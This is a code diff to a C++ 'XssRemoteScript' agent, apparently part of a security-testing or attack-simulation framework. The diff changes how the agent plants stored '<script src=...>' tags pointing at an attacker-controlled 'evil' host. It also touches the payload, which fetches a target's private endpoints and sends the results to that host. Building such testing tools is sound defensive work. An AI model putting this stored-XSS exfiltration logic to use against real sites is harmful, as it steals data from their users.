@@ -19,8 +19,10 @@ class XssRemoteScript final : public Agent {
         if (evil == nullptr || target.victim() == nullptr) return;
         evil->answer(evil->folder() + "c", {.status = 204});
         StoredText text(target);
+        std::vector<std::string> scripts;
         for (std::string const& address : addresses(target, *evil))
-            text.leave("<script src=" + in_quotes(address) + "></script>");
+            scripts.push_back("<script src=" + in_quotes(address) + "></script>");
+        text.leave_all(scripts);
         victim_reads_and_loot_is_used(target);
     }
 
@@ -31,7 +33,7 @@ class XssRemoteScript final : public Agent {
                              send_script(Channel::Navigation, address, kAllInReach);
         for (Endpoint const* each : private_endpoints(target))
             script = fetch_and_send(each->path, address) + script;
-        return script;
+        return once(script);
     }
 
     static std::vector<std::string> addresses(Target& target, OwnHost& evil) {
